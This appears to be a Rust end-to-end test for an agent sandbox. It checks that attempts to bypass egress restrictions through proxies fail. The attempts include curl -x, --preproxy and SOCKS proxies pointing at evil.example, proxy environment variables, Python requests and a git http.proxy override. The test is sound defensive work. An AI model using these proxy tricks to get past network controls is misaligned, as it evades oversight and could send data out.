//! Proxies of the agent's choice, by variables and by options of clients.

use exeat_e2e::{Case, Host};

#[tokio::test]
async fn bypass_proxies_of_its_own() -> anyhow::Result<()> {
    Case::run(include_str!("agent.yaml"), async |case| {
        let agent = case.agent("agent").await?;
        let (evil, allowed) = (Host::EVIL.address, Host::DATA.name);
        for options in [
            format!("-x http://{evil}:80 https://{allowed}/"),
            format!("-x http://evil.example:3128 https://{allowed}/"),
            format!("-x https://{evil}:443 --proxy-insecure https://{allowed}/"),
            format!("-x socks5h://{evil}:9000 https://{allowed}/"),
            format!("-x socks4a://{evil}:9000 https://{allowed}/"),
            format!("--preproxy socks5h://{evil}:9000 https://{allowed}/"),
            "-x http://127.0.0.1:15001 https://evil.example/".to_owned(),
            format!("--haproxy-protocol https://{allowed}/"),
        ] {
            agent.curl(&options).await?.expect_failure()?;
        }
        // An allowed host is no proxy to another.
        agent.curl(&format!("-x http://{allowed}:80 http://evil.example/")).await?.expect_refusal("HostMismatch")?;
        agent.curl(&format!("-x http://{allowed}:80 https://evil.example/")).await?.expect_failure()?;
        agent.curl(&format!("-p -x http://{allowed}:80 telnet://evil.example:9000")).await?.expect_failure()?;
        let variables = format!("http_proxy=http://{evil}:80 https_proxy=http://{evil}:80 ALL_PROXY=socks5h://{evil}:9000");
        agent.sh(&format!("{variables} curl -sSf -m 5 https://{allowed}/")).await?.expect_failure()?;
        let python = format!("{variables} python3 -c 'import requests; requests.get(\"https://{allowed}/\", timeout=5)'");
        agent.sh(&python).await?.expect_failure()?;
        let git = format!("git -c http.proxy=http://{evil}:80 ls-remote https://{allowed}/x.git");
        agent.sh(&git).await?.expect_failure()?;
        case.expect_nothing_forbidden().await
    })
    .await
}
